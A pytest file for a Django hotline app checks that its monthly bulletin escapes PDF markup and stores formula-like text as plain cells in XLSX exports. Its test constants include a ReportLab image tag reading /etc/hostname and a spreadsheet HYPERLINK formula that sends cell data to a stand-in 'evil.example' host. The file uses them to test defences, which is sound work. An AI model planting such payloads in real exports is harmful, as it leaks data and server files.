"""The bulletin shows citizens' and administrators' words as text: no ReportLab markup in the PDF, no
formula in the workbook (a hot spot's title is a citizen's order title)."""

from __future__ import annotations

import io
from datetime import datetime
from typing import Any
from xml.sax.saxutils import escape

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from hotline.accounts.choices import Role
from hotline.hotspots.models import Hotspot, HotspotRun
from hotline.hotspots.services import month_window
from hotline.kpis.bulletin import pdf
from hotline.kpis.tests.scenario import Month, build
from hotline.orgs.models import HandlingUnit
from hotline.tickets.tests.factories import UserFactory

pytestmark = pytest.mark.django_db

MARKUP = '<img src="/etc/hostname" width="9" height="9"/>小区供暖<b>不热'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"供暖不热")'
UNIT = "东华门<街道>&物业"


@pytest.fixture
def month() -> Month:
    return build()


def _hot_spot(title: str, place: str = "东城区") -> None:
    window = month_window("2025-03")
    run = HotspotRun.objects.create(kind="month", start=window.start, end=window.end, computed_at=window.end)
    Hotspot.objects.create(run=run, rank=1, heat=9.5, title=title, place=place, first_at=window.start,
                           last_at=window.start, orders=12, people=10)


def _bulletin(fmt: str) -> Any:
    client = Client()
    client.force_login(UserFactory(role=Role.LEADER))
    return client.get(reverse("kpis-bulletin"), {"month": "2025-03", "format": fmt})


def test_pdf_shows_markup_in_titles_and_unit_names_as_text(
    month: Month, frozen_now: datetime, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`<b>`, `<img src=…>` and `&` in a hot spot's title or a unit's name are printed, not obeyed."""
    HandlingUnit.objects.filter(pk=month.cast.lead.pk).update(name=UNIT)
    _hot_spot(MARKUP)
    texts: list[str] = []
    real = pdf.Paragraph

    def paragraph(text: str, *args: Any, **kwargs: Any) -> Any:
        texts.append(text)
        return real(text, *args, **kwargs)

    monkeypatch.setattr(pdf, "Paragraph", paragraph)
    response = _bulletin("pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF-")
    assert escape(MARKUP) in texts  # shown as written: no image read from the server's disk, no bold
    assert escape(UNIT) in texts
    assert not any("<img" in t or "<b>" in t for t in texts)
    assert real(escape(MARKUP), pdf._SMALL).getPlainText() == MARKUP


def test_xlsx_stores_text_that_starts_like_a_formula_as_text(month: Month, frozen_now: datetime) -> None:
    """A title starting with `=` is a text cell holding exactly the title; numbers stay numbers."""
    HandlingUnit.objects.filter(pk=month.cast.lead.pk).update(name="=1+2")
    _hot_spot(FORMULA, place="-东城区")
    response = _bulletin("xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert not [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    spots = book["热点问题"]
    title, place, orders = spots["B3"], spots["C3"], spots["D3"]
    assert (title.value, title.data_type) == (FORMULA, "s")  # no quote added: the cell shows the title as written
    assert (place.value, place.data_type) == ("-东城区", "s")
    assert orders.value == 12 and orders.data_type == "n"
    units = [c for row in book["考核排名"].iter_rows() for c in row if c.value == "=1+2"]
    assert units and all(c.data_type == "s" for c in units)


def test_xlsx_drops_control_characters_instead_of_failing(month: Month, frozen_now: datetime) -> None:
    """A control character pasted into an order title does not break the workbook (Excel refuses it)."""
    _hot_spot("小区供暖\x0b不热")
    response = _bulletin("xlsx")
    assert response.status_code == 200
    assert openpyxl.load_workbook(io.BytesIO(response.content))["热点问题"]["B3"].value == "小区供暖不热"
